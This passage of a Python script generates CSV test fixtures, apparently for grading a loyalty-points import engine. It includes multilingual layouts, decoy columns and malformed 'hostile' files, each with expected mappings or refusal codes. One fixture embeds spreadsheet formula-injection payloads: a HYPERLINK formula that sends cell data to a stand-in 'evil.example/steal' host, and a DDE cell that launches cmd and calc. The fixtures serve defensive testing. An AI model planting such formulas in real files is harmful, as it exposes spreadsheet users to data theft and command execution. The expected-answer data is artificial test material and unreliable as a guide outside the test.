    header = ['顧客ID', 'お名前', 'メールアドレス', '誕生月', 'ポイント残高', '使用済みポイント']
    rows = [
        [
            str(p.customer_id),
            f'{p.last} {p.first}',
            p.email,
            str(p.birthday.month),
            str(p.balance),
            str(p.redeemed),
        ]
        for p in people
    ]
    add(
        Layout(
            'ja_members_cp932.csv',
            'Japanese Excel',
            header,
            rows,
            mapping(header, 'メールアドレス', 'ポイント残高'),
            'Japanese Windows Excel: cp932 (髙/﨑 exist only in cp932, not plain shift_jis).',
            encoding='cp932',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'ja')
    header = ['メールアドレス', '氏名', '保有ポイント', '失効予定ポイント']
    rows = [[p.email, f'{p.last} {p.first}', str(p.balance), str(p.pending)] for p in people]
    add(
        Layout(
            'ja_shift_jis_points.csv',
            'Japanese POS',
            header,
            rows,
            mapping(header, 'メールアドレス', '保有ポイント'),
            'Shift_JIS: held points (保有) vs points about to expire (失効予定).',
            encoding='shift_jis',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'ru')
    header = ['ФИО', 'Email', 'Телефон', 'Списано баллов', 'Баланс баллов']
    rows = [[p.full, p.email, p.phone, str(p.redeemed), str(p.balance)] for p in people]
    add(
        Layout(
            'ru_clients_cp1251.csv',
            'Russian 1C',
            header,
            rows,
            mapping(header, 'Email', 'Баланс баллов'),
            'Russian cp1251, semicolon: balance vs written-off points.',
            encoding='cp1251',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'pl')
    header = ['Imię', 'Nazwisko', 'E-mail', 'Telefon', 'Kod pocztowy', 'Punkty wykorzystane', 'Saldo punktów']
    rows = [[p.first, p.last, p.email, p.phone, p.zip, str(p.redeemed), str(p.balance)] for p in people]
    add(
        Layout(
            'pl_klienci_cp1250.csv',
            'Polish Excel',
            header,
            rows,
            mapping(header, 'E-mail', 'Saldo punktów'),
            'Polish cp1250 (ł, ś, ą), semicolon.',
            encoding='cp1250',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'cz')
    header = ['Jméno', 'Příjmení', 'E-mail', 'Telefon', 'PSČ', 'Věrnostní body']
    rows = [[p.first, p.last, p.email, p.phone, p.zip, str(p.balance)] for p in people]
    add(
        Layout(
            'cz_zakaznici_cp1250.csv',
            'Czech Excel',
            header,
            rows,
            mapping(header, 'E-mail', 'Věrnostní body'),
            'Czech cp1250 (ř, ů, č), one points column ("loyalty points").',
            encoding='cp1250',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['Kunde', 'E-Mail', 'Punkte eingelöst', 'Punktestand', 'Letzter Einkauf']
    rows = [
        [p.full, p.email, str(p.redeemed), grouped(p.balance, '.'), p.created.strftime('%d.%m.%Y')]
        for p in people
    ]
    add(
        Layout(
            'excel_sep_hint_semicolon.csv',
            'German Excel',
            header,
            rows,
            mapping(header, 'E-Mail', 'Punktestand'),
            'Starts with Excel\'s "sep=;" hint line; the header is the second line.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
            preamble='sep=;\r\n',
        )
    )

    people = g.people(n_rows(g))
    header = ['CUSTOMER', 'MAIL', 'PHONE', 'POINTS', 'VISITS', '']
    rows = [[p.full, p.email, p.phone, str(p.balance), str(p.orders), ''] for p in people]
    add(
        Layout(
            'pos_trailing_delimiter.csv',
            'POS export',
            header,
            rows,
            mapping(header, 'MAIL', 'POINTS'),
            'Every line ends with a delimiter: an empty last column.',
            delimiter=';',
        )
    )


def _harder_layouts_with_units(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g))
    header = ['Customer', 'Email', 'Balance', 'Member since']
    rows = [[p.full, p.email, f'{grouped(p.balance, ",")} pts', p.created.strftime('%b %Y')] for p in people]
    add(
        Layout(
            'points_with_unit_suffix.csv',
            'loyalty admin panel',
            header,
            rows,
            mapping(header, 'Email', 'Balance'),
            'The balance is written "1,250 pts": still the only points column.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Phone', 'Zip', 'Email', 'Points', 'Age']
    rows = [
        [
            f'{rng.randint(201, 989)}{rng.randint(2000000, 9999999)}',
            p.zip,
            p.email,
            str(p.balance),
            str(rng.randint(18, 90)),
        ]
        for p in people
    ]
    add(
        Layout(
            'plain_digit_phone_decoy.csv',
            'spreadsheet',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'Phones are bare 10-digit integers, zips and ages integers too; the header settles it.',
        )
    )

    people = g.people(n_rows(g), 'nl')
    header = ['Username', 'Full name', 'Points balance', 'Last login']
    rows = [[p.email, p.full, str(p.balance), p.created.strftime('%d-%m-%Y %H:%M')] for p in people]
    add(
        Layout(
            'login_username_is_email.csv',
            'membership site',
            header,
            rows,
            mapping(header, 'Username', 'Points balance'),
            'The only email column is headed "Username": the content says what it is.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g))
    header = [
        'Customer ID',
        'First Name',
        'Last Name',
        'Email',
        'Total Spent',
        'Total Orders',
        'Rewards points',
    ]
    rows = [
        [
            f'{rng.randint(10**12, 10**13 - 1) / 10**12:.5f}E+12',
            p.first,
            p.last,
            p.email,
            money(p.spent, 'plain'),
            str(p.orders),
            str(p.balance),
        ]
        for p in people
    ]
    add(
        Layout(
            'shopify_resaved_in_excel.csv',
            'Shopify (re-saved by Excel)',
            header,
            rows,
            mapping(header, 'Email', 'Rewards points'),
            'Excel turned the customer IDs into 4.68841E+12; cp1252 after the round trip.',
            encoding='cp1252',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header = ['Member', 'Email Address', 'Points Value', 'Points Balance']
    rows = [[p.full, p.email, money(p.balance / 100), f'{p.balance}.00'] for p in people]
    add(
        Layout(
            'accounting_decimal_points.csv',
            'accounting export',
            header,
            rows,
            mapping(header, 'Email Address', 'Points Balance'),
            'Points written "1250.00"; the points VALUE is money next to it.',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['Kunde', 'E-Mail', 'Punktestand', 'Filiale']
    rows = [[p.full, p.email, grouped(p.balance, '.'), rng.choice(['Köln', 'Bonn'])] for p in people]
    rows.insert(len(rows) // 2, list(header))  # two exports pasted one under the other
    rows.append(['Summe', '', grouped(sum(p.balance for p in people), '.'), ''])
    add(
        Layout(
            'de_pasted_exports_with_total.csv',
            'German spreadsheet',
            header,
            rows,
            mapping(header, 'E-Mail', 'Punktestand'),
            'Two exports pasted together (the header repeats mid-file) and a "Summe" total row at the end.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g), 'de')
    header = ['E-Mail', 'Kunde', 'Guthaben (€)', 'Bonuspunkte']
    rows = [[p.email, p.full, money(p.credit, 'eur_de').replace(' €', ''), str(p.balance)] for p in people]
    add(
        Layout(
            'de_guthaben_und_bonuspunkte.csv',
            'German shop',
            header,
            rows,
            mapping(header, 'E-Mail', 'Bonuspunkte'),
            'Guthaben is a euro credit ("12,50"); Bonuspunkte is the only points column.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Points', 'Points expiring 2025-12-31', 'Expiry date']
    rows = [[p.email, str(p.balance), str(min(p.balance, p.pending)), '2025-12-31'] for p in people]
    add(
        Layout(
            'points_and_expiring_points.csv',
            'loyalty app',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'The expiring part of the balance is a decoy; plain "Points" is the balance.',
        )
    )

    people = g.people(n_rows(g), 'pt')
    header = ['Nome', 'Endereço de e-mail', 'Pontos a expirar', 'Pontos disponíveis']
    rows = [[p.full, p.email, str(p.pending), str(p.balance)] for p in people]
    add(
        Layout(
            'pt_pontos_disponiveis.csv',
            'Portuguese app',
            header,
            rows,
            mapping(header, 'Endereço de e-mail', 'Pontos disponíveis'),
            'Available points vs points about to expire.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'NPS Score', 'Comment', 'Submitted']
    rows = [
        [
            p.email,
            str(rng.randint(0, 10)),
            rng.choice(['', 'Great, thanks!', 'slow delivery']),
            iso(p.created),
        ]
        for p in people
    ]
    add(
        Layout(
            'nps_survey_scores.csv',
            'survey tool',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'A 0-10 survey score is not a points balance.',
        )
    )


def _harder_layouts_without_points(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g))
    header = ['Customer', 'Email', 'Visits', 'Last visit', 'Average ticket']
    rows = [
        [p.full, p.email, str(rng.randint(1, 80)), iso(p.created.date()), money(p.spent / 20, 'plain')]
        for p in people
    ]
    add(
        Layout(
            'pos_visits_no_points.csv',
            'POS',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'Visit counts are not a points balance (a careful reader would ask, not guess).',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Points Balance', 'Tier', 'Points Balance']
    rows = [[p.email, p.full, str(p.balance), p.tier, str(g.balance())] for p in people]
    add(
        Layout(
            'duplicate_balance_headers.csv',
            'merged spreadsheet',
            header,
            rows,
            refuse('AMBIGUOUS_POINTS'),
            'Two columns both headed "Points Balance" with different values.',
            override={'EMAIL': 0, 'POINTS': 2},
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Gift card code', 'Gift card balance', 'Expires']
    rows = [
        [
            p.email,
            ''.join(rng.choices(string.ascii_uppercase + string.digits, k=16)),
            f'{rng.choice([10, 25, 50, 100]) - rng.choice([0, 0, 5, 12.5]):.2f}',
            '2026-12-31',
        ]
        for p in people
    ]
    add(
        Layout(
            'gift_card_balances.csv',
            'gift card app',
            header,
            rows,
            refuse('NO_POINTS_COLUMN'),
            'A gift-card balance is money, not loyalty points.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Name', 'Emial', 'Ponits balance', 'Redeemd points']
    rows = [[p.full, p.email, str(p.balance), str(p.redeemed)] for p in people]
    add(
        Layout(
            'typos_in_headers.csv',
            'hand-made',
            header,
            rows,
            mapping(header, 'Emial', 'Ponits balance'),
            'Typed headers with typos: still obviously email, balance and redeemed.',
        )
    )

    people = g.people(n_rows(g))
    header = [
        'CUST_ID',
        'CUST_NAME',
        'E_MAIL_ADDR',
        'LIFETIME_POINTS_EARNED',
        'CURRENT_POINT_BALANCE',
        'POINTS_USED_YTD',
        'CREATED_TS',
    ]
    rows = [
        [
            str(p.customer_id),
            p.full.upper(),
            p.email.upper(),
            str(p.lifetime),
            str(p.balance),
            str(p.redeemed),
            p.created.strftime('%Y%m%d%H%M%S'),
        ]
        for p in people
    ]
    add(
        Layout(
            'erp_upper_snake_case.csv',
            'ERP',
            header,
            rows,
            mapping(header, 'E_MAIL_ADDR', 'CURRENT_POINT_BALANCE'),
            'ERP dump: UPPER_SNAKE headers, upper-case emails, timestamps as 14-digit integers.',
            delimiter='|',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Points balance', 'Tier']
    rows = [[p.email, p.full, str(p.balance) if rng.random() < 0.6 else '', p.tier] for p in people]
    add(
        Layout(
            'sparse_balance_blanks.csv',
            'loyalty app',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'A blank balance means the customer has none yet (about 40% of rows).',
        )
    )

    people = g.people(n_rows(g), 'de')
    idn = ['jürgen@bäckerei.example', 'zoë@müller.example', 'søren@blåbær.example', 'josé@núñez.example']
    rows = [
        [p.full, (rng.choice(idn) if i % 6 == 5 else p.email), str(p.balance)] for i, p in enumerate(people)
    ]
    header = ['Name', 'E-Mail', 'Punktestand']
    add(
        Layout(
            'de_idn_emails.csv',
            'German shop',
            header,
            rows,
            mapping(header, 'E-Mail', 'Punktestand'),
            'Some addresses have umlauts (internationalized emails); the column is still the email.',
            delimiter=';',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Points balance', 'Points redeemed', 'Signup source']
    rows = [
        [
            p.email,
            (rng.choice(['N/A', '-', 'n/a']) if rng.random() < 0.15 else str(p.balance)),
            str(p.redeemed),
            rng.choice(['web', 'pos', 'app']),
        ]
        for p in people
    ]
    add(
        Layout(
            'balance_with_na_values.csv',
            'loyalty app',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'Some balances are "N/A"/"-" while the redeemed column is fully numeric: the header decides.',
        )
    )

    people = g.people(n_rows(g), 'ja')
    header = ['名前', 'メール', 'ポイント']
    rows = [[f'{p.last}{p.first}', p.email, grouped(p.balance, ',').translate(FULLWIDTH)] for p in people]
    add(
        Layout(
            'ja_handmade_fullwidth_digits.csv',
            'hand-made (Japanese)',
            header,
            rows,
            mapping(header, 'メール', 'ポイント'),
            'Typed by hand in Japanese: full-width digits and commas (１，２００).',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'First name', 'VIP tier', 'Current tier points', 'Points balance', 'Tier expires']
    rows = [
        [p.email, p.first, p.tier or 'Bronze', str(rng.randint(0, 2500)), str(p.balance), '2026-01-31']
        for p in people
    ]
    add(
        Layout(
            'vip_tier_points_decoy.csv',
            'Smile.io (VIP)',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'Tier-qualifying points say "current" but are not the spendable balance.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Customer email', 'Available rewards', 'Points', 'Rewards redeemed']
    rows = [[p.email, str(rng.randint(0, 3)), str(p.balance), str(rng.randint(0, 12))] for p in people]
    add(
        Layout(
            'available_rewards_count_decoy.csv',
            'rewards app',
            header,
            rows,
            mapping(header, 'Customer email', 'Points'),
            '"Available rewards" counts reward vouchers (0-3); the points are in "Points".',
        )
    )


def _harder_layouts_with_decoys(g: Gen, add: Callable[[Layout], None]) -> None:
    rng = g.rng

    people = g.people(n_rows(g))
    header = ['Email', 'Points', 'Points to next tier', 'Next tier']
    rows = [
        [p.email, str(p.balance), str(rng.randint(0, 1500)), rng.choice(['Silver', 'Gold'])] for p in people
    ]
    add(
        Layout(
            'points_to_next_tier_decoy.csv',
            'loyalty app',
            header,
            rows,
            mapping(header, 'Email', 'Points'),
            'The distance to the next tier is not the balance.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Created by', 'Modified by', 'Contact name', 'Email', 'Points balance']
    rows = [
        [rng.choice(STAFF), rng.choice(STAFF), p.full, sometimes_blank(rng, p.email, 0.3), str(p.balance)]
        for p in people
    ]
    add(
        Layout(
            'crm_created_by_staff_emails.csv',
            'CRM export',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'Two staff-email columns are full; the customer Email column is 70% filled.',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Points balance (before migration)', 'Points balance', 'Migrated on']
    rows = [[p.email, str(g.balance()), str(p.balance), '2025-03-01'] for p in people]
    add(
        Layout(
            'balance_before_migration_decoy.csv',
            'platform migration',
            header,
            rows,
            mapping(header, 'Email', 'Points balance'),
            'The qualified "(before migration)" balance is history; the plain one is current.',
        )
    )

    people = g.people(n_rows(g), 'it')
    header = ['Cliente', 'Email', 'Punti in scadenza', 'Data scadenza', 'Punti']
    rows = [[p.full, p.email, str(min(p.pending, p.balance)), '31/12/2025', str(p.balance)] for p in people]
    add(
        Layout(
            'it_punti_in_scadenza.csv',
            'Italian shop',
            header,
            rows,
            mapping(header, 'Email', 'Punti'),
            'Points about to expire ("in scadenza") are part of the balance, not the balance.',
            encoding='cp1252',
            delimiter=';',
            newline='\r\n',
        )
    )

    people = g.people(n_rows(g))
    header = ['Email', 'Name', 'Points balance']
    rows = [[p.email, p.full, ''] for p in people]
    add(
        Layout(
            'balance_column_all_blank.csv',
            'loyalty app',
            header,
            rows,
            {'refuse': True},
            'The balance column exists but is empty on every row: nothing to import.',
        )
    )


def fixed_time(name: str) -> zipfile.ZipInfo:
    """A zip member with a fixed timestamp, so the archive bytes do not depend on the clock."""
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 2, 3, 4, 5))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def good_rows(g: Gen, count: int) -> list[list[str]]:
    return [[p.email, p.full, str(p.balance)] for p in g.people(count)]


def csv_bytes(header: Sequence[str] | None, rows: Sequence[Sequence[str]], newline: str = '\n') -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=newline)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode('utf-8')


GOOD_HEADER = ['Email', 'Name', 'Points Balance']


def build_hostile(g: Gen) -> tuple[dict[str, bytes], dict[str, dict[str, Any]]]:
    rng = g.rng
    files: dict[str, bytes] = {}
    expected: dict[str, dict[str, Any]] = {}
    good_map = {'EMAIL': 0, 'POINTS': 2}

    def put(
        name: str,
        data: bytes,
        *,
        refusals: list[str] | str,
        mapping_: dict[str, int] | None = None,
        why: str,
        validation_mentions: list[str] | None = None,
        subprocess_: bool = False,
        plain: bytes | None = None,
    ) -> None:
        files[name] = data
        expected[name] = {
            # Codes a careful reviewer accepts as an honest refusal: a list, or '*' for any code.
            'refusals': refusals,
            # The mapping a careful reader gives when the engine does not refuse; null: must refuse.
            'mapping': mapping_,
            # When mapped: the validation summary must mention one of these words.
            'validation_mentions': validation_mentions or [],
            # Pathological inputs run in a child process with a hang guard and a memory cap.
            'subprocess': subprocess_,
            'checks': pairs_in(plain or data, mapping_) if mapping_ else [],
            'why': why,
        }

    put('empty.csv', b'', refusals=['EMPTY_FILE'], why='zero bytes')
    put(
        'whitespace_only.csv',
        b'  \r\n\n\t \n   \n',
        refusals=['EMPTY_FILE'],
        why='blank lines and spaces only',
    )
    put(
        'header_only.csv',
        b'Email,Name,Points Balance\r\n',
        refusals=['EMPTY_FILE'],
        why='a header and no rows',
    )
    put(
        'binary_garbage.csv',
        bytes(rng.getrandbits(8) for _ in range(4096)),
        refusals=['NOT_A_CSV'],
        why='random bytes',
        subprocess_=True,
    )

    payload = csv_bytes(GOOD_HEADER, good_rows(g, 30))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(fixed_time('customers.csv'), payload)
    put('real_zip_archive.csv', zipped.getvalue(), refusals=['NOT_A_CSV'], why='a zip holding a CSV')

    xlsx = io.BytesIO()
    with zipfile.ZipFile(xlsx, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            fixed_time('[Content_Types].xml'),
            '<?xml version="1.0" encoding="UTF-8"?><Types '
            'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr(fixed_time('_rels/.rels'), '<?xml version="1.0"?><Relationships/>')
        archive.writestr(
            fixed_time('xl/workbook.xml'),
            '<?xml version="1.0"?><workbook><sheets><sheet name="Kunden" sheetId="1"/></sheets></workbook>',
        )
        archive.writestr(
            fixed_time('xl/worksheets/sheet1.xml'),
            '<?xml version="1.0"?><worksheet><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>Email</t></is></c></row></sheetData></worksheet>',
        )
    put('xlsx_renamed.csv', xlsx.getvalue(), refusals=['NOT_A_CSV'], why='an Excel workbook renamed .csv')

    put(
        'gzip_compressed.csv',
        gzip.compress(payload, mtime=0),
        refusals=['NOT_A_CSV'],
        mapping_=good_map,
        plain=payload,
        why='a gzipped CSV: refusing is right; decompressing and mapping would be honest too',
    )
    put(
        'pdf_document.csv',
        b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'
        b'2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\nstream\n'
        + bytes(range(256)) * 4
        + b'\nendstream\n%%EOF\n',
        refusals=['NOT_A_CSV'],
        why='a PDF',
    )
    people = g.people(25)
    put(
        'json_array.csv',
        json.dumps(
            [{'email': p.email, 'name': p.full, 'points': p.balance} for p in people],
            indent=2,
            ensure_ascii=False,
        ).encode(),
        refusals=['NOT_A_CSV'],
        why='JSON, not CSV',
    )
    _hostile_markup_and_rows(g, put, good_map)
    return files, expected


def _hostile_markup_and_rows(g: Gen, put: Callable[..., None], good_map: dict[str, int]) -> None:
    """HTML and damaged or unusual rows: the second half of the hostile inputs, in generation order."""
    rng = g.rng
    html_rows = ''.join(f'<tr><td>{p.email}</td><td>{p.balance}</td></tr>\n' for p in g.people(25))
    put(
        'html_table.csv',
        (
            f'<!DOCTYPE html>\n<html><head><title>Export</title></head><body>\n<table>\n'
            f'<tr><th>Email</th><th>Points</th></tr>\n{html_rows}</table></body></html>\n'
        ).encode(),
        refusals=['NOT_A_CSV'],
        why='an HTML page saved as .csv',
    )

    rows = good_rows(g, 30)
    for i in (3, 11, 17):
        rows[i][1] = rows[i][1][:3] + '\x00' + rows[i][1][3:]
    put(
        'nul_bytes_in_names.csv',
        csv_bytes(GOOD_HEADER, rows),
        refusals=['NOT_A_CSV'],
        mapping_=good_map,
        why='NUL bytes inside three name cells',
        subprocess_=True,
    )

    rows = good_rows(g, 30)
    text = csv_bytes(GOOD_HEADER, rows).decode()
    lines = text.split('\n')
    lines[20] = lines[20].replace(',', ',"', 1)  # opens a quote in the name that is never closed
    put(
        'unterminated_quote.csv',
        '\n'.join(lines).encode(),
        refusals=['NOT_A_CSV', 'TOO_MANY_INVALID_ROWS'],
        mapping_=good_map,
        why='a quote opened on line 21 and never closed',
        subprocess_=True,
    )

    wide_header = [f'field_{i}' for i in range(5000)]
    wide_header[1234], wide_header[4321] = 'Email', 'Points Balance'
    wide_rows = []
    for p in g.people(20):
        row = [''] * 5000
        row[0], row[1234], row[4321], row[4999] = str(p.customer_id), p.email, str(p.balance), p.tier
        wide_rows.append(row)
    put(
        'five_thousand_columns.csv',
        csv_bytes(wide_header, wide_rows),
        refusals='*',
        mapping_={'EMAIL': 1234, 'POINTS': 4321},
        why='5,000 columns: map it (the normalized file keeps <= 100 columns) or refuse with a code',
        subprocess_=True,
    )

    rows = [[p.email, p.full, str(p.balance), rng.choice(['', 'ok'])] for p in g.people(30)]
    rows[4][1] = '=HYPERLINK("http://evil.example/steal?d="&A5,"Click for bonus")'
    rows[9][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[12][3] = '+1'
    rows[15][3] = '-1'
    rows[18][0] = '=HYPERLINK("mailto:' + rows[18][0] + '")'
    rows[21][2] = '+' + rows[21][2]
    put(
        'formula_injection.csv',
        csv_bytes([*GOOD_HEADER, 'Note'], rows),
        refusals='*',
        mapping_=good_map,
        validation_mentions=['formula'],
        why='formula-like cells in name, note, email and points columns of an otherwise good file',
    )

    rows = good_rows(g, 30)
    for i in (2, 7, 25):
        rows[i][2] = f'-{rng.randint(1, 500)}'
    put(
        'negative_points.csv',
        csv_bytes(GOOD_HEADER, rows),
        refusals=[],
        mapping_=good_map,
        validation_mentions=['negative'],
        why='three negative balances among 30',
    )

    rows = good_rows(g, 30)
    rows[5][2] = '99999999999999999999'
    rows[19][2] = '340282366920938463463374607431768211456'
    put(
        'overflowing_points.csv',
        csv_bytes(GOOD_HEADER, rows),
        refusals=[],
        mapping_=good_map,
        validation_mentions=['overflow', 'too large', 'too_large', 'out of range', 'out_of_range', 'exceed'],
        why='two balances far beyond any integer Wix accepts',
    )

    rows = good_rows(g, 30)
    junk = [
        'n/a',
        'none',
        '',
        'john at example dot com',
        'call me',
        '-',
        'unknown',
        'x@',
        '@example.com',
        'mary@@example.com',
        'bob(at)example.com',
    ]
    for i, row in enumerate(rows):
        if i % 5:
            row[0] = rng.choice(junk)
    put(
        'mostly_invalid_emails.csv',
        csv_bytes(GOOD_HEADER, rows),
        refusals=['TOO_MANY_INVALID_ROWS', 'NO_EMAIL_COLUMN'],
        why='four emails in five are not emails',
    )

    put(
        'single_email_column.csv',
        csv_bytes(['Email'], [[p.email] for p in g.people(25)]),
        refusals=['NO_POINTS_COLUMN'],
        why='emails only',
    )


def pairs_in(data: bytes, columns: dict[str, int]) -> list[tuple[str, int]]:
    """Three email/points pairs a careful reader would import from a UTF-8 comma file."""
    pairs: list[tuple[str, int]] = []
    text = data.decode('utf-8', errors='replace').replace('\x00', '')
    for row in list(csv.reader(io.StringIO(text, newline='')))[1:]:
        if len(row) <= max(columns.values()):
            continue
        email, points = row[columns['EMAIL']].strip(), parse_points(row[columns['POINTS']])
        if EMAIL_RE.match(email) and points is not None:
            pairs.append((email.lower(), points))
        if len(pairs) == 3:
            break
    return pairs


def checks_for(layout: Layout) -> list[tuple[str, int]]:
    """The first email/points pairs a careful reader would import; the normalized file must keep them."""
    if 'EMAIL' not in layout.expected:
        return []
    pairs: list[tuple[str, int]] = []
    for row in layout.rows:
        email, points = row[layout.expected['EMAIL']].strip(), parse_points(row[layout.expected['POINTS']])
        if EMAIL_RE.match(email) and points is not None:
            pairs.append((email.lower(), points))
        if len(pairs) == 3:
            break
    return pairs


def texts_for(layout: Layout) -> list[str]:
    """Non-ASCII cells (names, cities) that a right decoding keeps intact in the normalized file."""
    texts: list[str] = []
    skip = {layout.expected.get('EMAIL'), layout.expected.get('POINTS')}
    for row in layout.rows:
        for index, cell in enumerate(row):
            if (
                index not in skip
                and not cell.isascii()
                and cell.strip()
                and cell not in texts
                and len(cell) < 60
            ):
                texts.append(cell.strip())
        if len(texts) >= 3:
            break
    return texts[:3]


def write_json(path: Path, data: object) -> None:
    path.write_text(json.dumps(data, indent=2, ensure_ascii=False, sort_keys=True) + '\n', encoding='utf-8')


def main() -> None:
    g = Gen(SEED)
    layouts = build_layouts(g)
    names = [layout.name for layout in layouts]
    if len(set(names)) != len(names):
        raise SystemExit('duplicate layout names')
    LAYOUTS_DIR.mkdir(exist_ok=True)
    for stale in LAYOUTS_DIR.glob('*.csv'):
        stale.unlink()
    expected: dict[str, dict[str, Any]] = {}
    manifest: dict[str, dict[str, Any]] = {}
    for layout in layouts:
        (LAYOUTS_DIR / layout.name).write_bytes(render(layout))
        expected[layout.name] = layout.expected
        manifest[layout.name] = {
            'vendor': layout.vendor,
            'why': layout.why,
            'encoding': layout.encoding,
            'delimiter': layout.delimiter,
            'newline': layout.newline,
            'has_header': layout.header is not None,
            'preamble_lines': layout.preamble.count('\n'),
            'rows': len(layout.rows),
            'columns': len(layout.header) if layout.header else len(layout.rows[0]),
            'checks': checks_for(layout),
            'texts': texts_for(layout),
            'override': layout.override,
        }
    write_json(LAYOUTS_DIR / 'expected.json', expected)
    write_json(LAYOUTS_DIR / 'manifest.json', manifest)

    HOSTILE_DIR.mkdir(exist_ok=True)
    for stale in HOSTILE_DIR.glob('*.csv'):
        stale.unlink()
    files, hostile_expected = build_hostile(g)
    for name, data in files.items():
        (HOSTILE_DIR / name).write_bytes(data)
    write_json(HOSTILE_DIR / 'expected.json', hostile_expected)
    print(f'{len(layouts)} layouts, {len(files)} hostile files')


if __name__ == '__main__':
    main()
